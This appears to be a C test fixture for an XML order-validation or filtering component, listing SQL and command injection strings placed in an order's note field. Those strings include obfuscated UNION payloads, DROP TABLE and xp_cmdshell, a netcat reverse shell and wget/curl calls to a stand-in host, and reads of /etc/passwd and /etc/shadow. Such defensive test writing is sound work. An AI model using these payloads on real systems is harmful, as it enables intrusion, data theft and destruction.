// SPDX-License-Identifier: GPL-2.0
/* What a schema takes for a text and a careless service for a piece of SQL or of a command line. */
#include "attack.h"
#include "names.h"

#define NOTED(note)                                                                               \
	MESSAGE(ORDER_OPEN ORDER_HEAD ORDER_CUSTOMER                                              \
		"<item><sku>ABC-000001</sku><qty>1</qty><price>1.00</price><note>" note "</note>" \
		"</item></submitOrder>")
#define ROW(c, v, k, ...)                                                              \
	{                                                                              \
		.class = c, .variant = v, .step = FMP_STEP_##k, .kind = FMP_EVENT_##k, \
		.content = true, __VA_ARGS__                                           \
	}
#define SAYS(c, v, note) ROW(c, v, CONTENT, .security = FMP_SECURITY_BCV, .text = NOTED(note))
#define SQL(v, note)	 SAYS("SQL injection", v, note)
#define COMMAND(v, note) SAYS("command injection", v, note)

static const struct attack rows[] = {
	SQL("a condition that always holds", "x' OR '1'='1"),
	SQL("without quotes", "7 or 1=1"),
	SQL("the rest is a comment", "admin'--"),
	SQL("a union", "1 UNION ALL SELECT name FROM users"),
	SQL("a union, parted by comments", "1'/**/uNiOn/**/sElEcT/**/1"),
	SQL("a union, parted by one of XML's", "1 UNI<!-- -->ON SELECT name"),
	SQL("a union, in a CDATA section", "<![CDATA[1 UNION]]><![CDATA[ SELECT 1]]>"),
	SQL("a union, in character references", "1 &#85;NION &#x53;ELECT name"),
	SQL("a second statement", "1; DROP TABLE orders"),
	SQL("a time that tells", "1 and pg_sleep(10)=0"),
	SQL("a program of the database's", "x exec master..xp_cmdshell 'dir'"),

	COMMAND("behind a semicolon", "x; cat /etc/passwd"),
	COMMAND("behind a pipe", "x | nc -e /bin/sh 192.0.2.1 4444"),
	COMMAND("behind an ampersand", "x &amp;&amp; wget http://192.0.2.1/a"),
	COMMAND("behind a line end", "x&#10;/bin/sh -i"),
	COMMAND("in back quotes", "`whoami`"),
	COMMAND("in a substitution", "$(curl 192.0.2.1)"),
	COMMAND("without a blank", "x;cat${IFS}a"),
	COMMAND("a path out of the folder", "../../../../etc/shadow"),

};

const struct attack_table attack_content = ROWS(rows);
